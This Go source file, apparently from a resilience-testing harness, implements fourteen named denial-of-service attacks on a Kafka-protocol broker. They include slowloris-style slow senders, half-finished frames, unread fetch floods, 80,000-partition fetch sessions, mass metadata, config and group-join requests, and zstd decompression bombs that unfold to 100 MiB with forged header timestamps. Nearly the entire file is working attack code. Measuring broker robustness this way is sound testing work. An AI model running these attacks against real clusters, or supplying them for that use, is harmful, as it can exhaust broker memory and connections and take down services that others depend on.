package main

import (
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"sync/atomic"
	"time"

	"github.com/klauspost/compress/zstd"
	"github.com/twmb/franz-go/pkg/kmsg"
)

// attackKind is one way to misbehave.
type attackKind struct {
	name string
	// prepare makes what the attack needs, before anything is measured.
	prepare func(address string)
	// attacker is one connection, until it is closed.
	attacker func(net.Conn)
}

var attacks = []attackKind{
	{"idle connections", nil, idle},
	{"slow senders of 90 MB", nil, sendSlowly},
	{"unfinished small frames", nil, stopHalfWay},
	{"long polls and what waits behind", nil, waitBehindLongPoll},
	{"fetch answers nobody reads", prepareLarge, fetchUnread},
	{"fetches 0 nobody reads", preparePacked, fetchOldUnread},
	{"sessions of 80,000 partitions", nil, openSessions},
	{"metadata of 20,000 names", nil, askForNames},
	{"producer ids in 64 logs", prepareMany, bringProducers},
	{"batches that unfold to 100 MiB", prepareBombs, sendBombs},
	{"times looked for in such batches", prepareBombs, lookForTimes},
	{"10,000 topics validated", nil, validateTopics},
	{"configs of 100,000 groups", nil, describeConfigs},
	{"groups joined, never synced", nil, joinGroups},
}

func attackAs(name string) {
	for _, one := range attacks {
		if one.name == name {
			dialAll(*bootstrap, *connections, one.attacker)
			select {}
		}
	}
	panic("no attack is called " + name)
}

var formatter = kmsg.NewRequestFormatter(kmsg.FormatterClientID("attacker"))

func frame(version int16, request kmsg.Request) []byte {
	request.SetVersion(version)
	return formatter.AppendRequest(nil, request, 1)
}

// send is false when the connection is gone.
func send(to net.Conn, bytes []byte) bool {
	_, err := to.Write(bytes)
	return err == nil
}

// skip reads one answer and forgets it.
func skip(from net.Conn) bool {
	var length [4]byte
	if _, err := io.ReadFull(from, length[:]); err != nil {
		return false
	}
	_, err := io.CopyN(io.Discard, from, int64(binary.BigEndian.Uint32(length[:])))
	return err == nil
}

// ask sends the same request again and again, each when the one before is answered.
func ask(connection net.Conn, request []byte) {
	for send(connection, request) && skip(connection) {
	}
	connection.Close()
}

// askUnread sends the same request again and again and reads nothing.
func askUnread(connection net.Conn, request []byte) {
	_ = connection.(*net.TCPConn).SetReadBuffer(4096)
	for send(connection, request) {
	}
	connection.Close()
}

func idle(connection net.Conn) { _, _ = connection.Read(make([]byte, 1)) }

// begin announces a Produce frame and sends a part of it.
func begin(connection net.Conn, announced uint32, sent int) bool {
	head := binary.BigEndian.AppendUint32(nil, announced)
	return send(connection, append(append(head, 0, 0, 0, 9), make([]byte, sent)...))
}

func sendSlowly(connection net.Conn) {
	for ok := begin(connection, 90_000_000, 200_000); ok; ok = send(connection, []byte{0}) {
		time.Sleep(2 * time.Second)
	}
}

func stopHalfWay(connection net.Conn) {
	begin(connection, 65_000, 64_000)
	idle(connection)
}

func fetchRequest(
	topic string, partitions int, waitMs, minBytes, maxBytes int32,
) *kmsg.FetchRequest {
	request := kmsg.NewPtrFetchRequest()
	request.MaxWaitMillis, request.MinBytes, request.MaxBytes = waitMs, minBytes, maxBytes
	request.SessionEpoch = -1
	asked := kmsg.NewFetchRequestTopic()
	asked.Topic = topic
	for index := range partitions {
		partition := kmsg.NewFetchRequestTopicPartition()
		partition.Partition, partition.PartitionMaxBytes = int32(index), maxBytes
		asked.Partitions = append(asked.Partitions, partition)
	}
	request.Topics = append(request.Topics, asked)
	return request
}

// waitBehindLongPoll sends a request behind one that waits for ten minutes; every second one then
// says that it sends no more.
func waitBehindLongPoll(connection net.Conn) {
	poll := frame(11, fetchRequest(healthyTopic, 1, 600_000, 1<<30, 1<<30))
	behind := frame(4, metadataOf(665, 90))
	if send(connection, append(poll, behind...)) && rand.IntN(2) == 0 {
		_ = connection.(*net.TCPConn).CloseWrite()
	}
	idle(connection)
}

func metadataOf(names, size int) *kmsg.MetadataRequest {
	request := kmsg.NewPtrMetadataRequest()
	from := rand.Uint32()
	for index := range names {
		topic := kmsg.NewMetadataRequestTopic()
		name := fmt.Sprintf("%08x-%d-%s", from, index, strings.Repeat("x", size))
		topic.Topic = &name
		request.Topics = append(request.Topics, topic)
	}
	return request
}

func askForNames(connection net.Conn) { askUnread(connection, frame(4, metadataOf(20_000, 60))) }

const (
	largeTopic  = "large"
	packedTopic = "packed"
	manyTopic   = "many"
	bombTopic   = "bombs"
	bombs       = 20
	manyLogs    = 64
)

// prepareLarge fills a topic with what is worth fetching.
func prepareLarge(address string) { fill(address, largeTopic, 64, plainBatch) }

func preparePacked(address string) { fill(address, packedTopic, 16, packedBatch) }

func fill(address, topic string, batches int, batch func() []byte) {
	create(address, topic, 4, nil)
	connection, err := net.Dial("tcp", address)
	check(err)
	defer connection.Close()
	for index := range batches {
		request := frame(7, produceOf(topic, map[int32][]byte{int32(index % 4): batch()}))
		if !send(connection, request) || !skip(connection) {
			panic("the node does not take what is to be fetched")
		}
	}
}

func fetchUnread(connection net.Conn) {
	askUnread(connection, frame(11, fetchRequest(largeTopic, 4, 500, 1, 4<<20)))
}

func fetchOldUnread(connection net.Conn) {
	askUnread(connection, frame(0, fetchRequest(packedTopic, 4, 500, 1, 4<<20)))
}

// openSessions names as many partitions as it has room for, closes and comes again.
func openSessions(connection net.Conn) {
	request := fetchRequest("nowhere", 80_000, 0, 0, 1<<20)
	request.SessionEpoch = 0
	bytes := frame(11, request)
	for {
		ok := send(connection, bytes) && skip(connection)
		connection.Close()
		again, err := net.Dial("tcp", *bootstrap)
		if err != nil || !ok {
			time.Sleep(10 * time.Millisecond)
		}
		if err == nil {
			connection = again
		}
	}
}

func prepareMany(address string) { create(address, manyTopic, manyLogs, nil) }

var producers atomic.Int64

// bringProducers writes a batch of another idempotent producer to each of many logs.
func bringProducers(connection net.Conn) {
	template := batchOf([]byte("x"), 0, 0, 1)
	for {
		batches := make(map[int32][]byte, manyLogs)
		for index := range int32(manyLogs) {
			batch := append([]byte(nil), template...)
			producer := producers.Add(1) + rand.Int64N(1<<20)<<32
			binary.BigEndian.PutUint64(batch[43:], uint64(producer))
			binary.BigEndian.PutUint16(batch[51:], 0)
			binary.BigEndian.PutUint32(batch[53:], 0)
			seal(batch)
			batches[index] = batch
		}
		if !send(connection, frame(7, produceOf(manyTopic, batches))) || !skip(connection) {
			return
		}
	}
}

func produceOf(topic string, batches map[int32][]byte) *kmsg.ProduceRequest {
	request := kmsg.NewPtrProduceRequest()
	request.Acks, request.TimeoutMillis = -1, 30_000
	sent := kmsg.NewProduceRequestTopic()
	sent.Topic = topic
	for index, batch := range batches {
		partition := kmsg.NewProduceRequestTopicPartition()
		partition.Partition, partition.Records = index, batch
		sent.Partitions = append(sent.Partitions, partition)
	}
	request.Topics = append(request.Topics, sent)
	return request
}

// record is one with this value, of no time of its own.
func record(value []byte) []byte {
	body := []byte{0, 0, 0, 1}
	body = binary.AppendVarint(body, int64(len(value)))
	body = append(append(body, value...), 0)
	return append(binary.AppendVarint(nil, int64(len(body))), body...)
}

// batchOf is a batch of one record, packed already if a codec is named, whose header claims a time.
func batchOf(records []byte, codec uint16, time, claim int64) []byte {
	if codec == 0 {
		records = record(records)
	}
	batch := make([]byte, 61, 61+len(records))
	binary.BigEndian.PutUint32(batch[12:], 0xffff_ffff)
	batch[16] = 2
	binary.BigEndian.PutUint16(batch[21:], codec)
	binary.BigEndian.PutUint64(batch[27:], uint64(time))
	binary.BigEndian.PutUint64(batch[35:], uint64(claim))
	binary.BigEndian.PutUint64(batch[43:], ^uint64(0))
	binary.BigEndian.PutUint16(batch[51:], 0xffff)
	binary.BigEndian.PutUint32(batch[53:], 0xffff_ffff)
	binary.BigEndian.PutUint32(batch[57:], 1)
	batch = append(batch, records...)
	binary.BigEndian.PutUint32(batch[8:], uint32(len(batch)-12))
	seal(batch)
	return batch
}

func seal(batch []byte) {
	sum := crc32.Checksum(batch[21:], crc32.MakeTable(crc32.Castagnoli))
	binary.BigEndian.PutUint32(batch[17:], sum)
}

const zstdCodec = 4

func plainBatch() []byte {
	now := time.Now().UnixMilli()
	return batchOf(make([]byte, 1_000_000), 0, now, now)
}

func pack(value []byte) []byte {
	encoder, err := zstd.NewWriter(nil)
	check(err)
	return encoder.EncodeAll(record(value), nil)
}

// bomb takes a few KiB and unfolds to 100 MiB. Its header claims a time that no record has.
func bomb(time, claim int64) []byte {
	return batchOf(pack(make([]byte, 100<<20)), zstdCodec, time, claim)
}

// packedBatch is for clients of before 2017: of gzip, a megabyte when it is unpacked.
func packedBatch() []byte {
	now := time.Now().UnixMilli()
	return batchOf(gzipped(record(make([]byte, 900_000))), gzipCodec, now, now)
}

func prepareBombs(address string) {
	create(address, bombTopic, bombs, nil)
	now := time.Now().UnixMilli()
	request := frame(7, produceOf(bombTopic, bombsFor(bomb(now, now+540_000))))
	connection, err := net.Dial("tcp", address)
	check(err)
	defer connection.Close()
	if !send(connection, request) || !skip(connection) {
		panic("the node does not take the batches")
	}
}

func bombsFor(batch []byte) map[int32][]byte {
	batches := make(map[int32][]byte, bombs)
	for index := range int32(bombs) {
		batches[index] = batch
	}
	return batches
}

// made once for all attackers.
var believedByNobody = onceBytes(func() []byte {
	return frame(7, produceOf(bombTopic, bombsFor(bomb(0, -1))))
})

func sendBombs(connection net.Conn) { ask(connection, believedByNobody()) }

func lookForTimes(connection net.Conn) {
	request := kmsg.NewPtrListOffsetsRequest()
	request.ReplicaID = -1
	topic := kmsg.NewListOffsetsRequestTopic()
	topic.Topic = bombTopic
	for index := range int32(bombs) {
		partition := kmsg.NewListOffsetsRequestTopicPartition()
		// After the records, and before what the headers claim.
		partition.Partition, partition.Timestamp = index, time.Now().UnixMilli()+420_000
		topic.Partitions = append(topic.Partitions, partition)
	}
	request.Topics = append(request.Topics, topic)
	ask(connection, frame(1, request))
}

func validateTopics(connection net.Conn) {
	request := kmsg.NewPtrCreateTopicsRequest()
	request.ValidateOnly, request.TimeoutMillis = true, 30_000
	for index := range 10_000 {
		topic := kmsg.NewCreateTopicsRequestTopic()
		topic.Topic, topic.NumPartitions, topic.ReplicationFactor = fmt.Sprint("t", index), 1, 1
		request.Topics = append(request.Topics, topic)
	}
	ask(connection, frame(5, request))
}

func describeConfigs(connection net.Conn) {
	request := kmsg.NewPtrDescribeConfigsRequest()
	request.IncludeSynonyms, request.IncludeDocumentation = true, true
	for index := range 100_000 {
		resource := kmsg.NewDescribeConfigsRequestResource()
		resource.ResourceType, resource.ResourceName = 32, fmt.Sprintf("%x", index)
		request.Resources = append(request.Resources, resource)
	}
	ask(connection, frame(4, request))
}

// joinGroups joins one group after the other, as nobody else does, and syncs none of them.
func joinGroups(connection net.Conn) {
	for number := 0; ; number++ {
		request := kmsg.NewPtrJoinGroupRequest()
		request.Group = fmt.Sprintf("%x-%d", rand.Uint64(), number)
		request.SessionTimeoutMillis, request.RebalanceTimeoutMillis = 30_000, 300_000
		request.ProtocolType = "consumer"
		protocol := kmsg.NewJoinGroupRequestProtocol()
		protocol.Name, protocol.Metadata = "range", make([]byte, 10_000)
		request.Protocols = append(request.Protocols, protocol)
		if !send(connection, frame(3, request)) || !skip(connection) {
			return
		}
	}
}
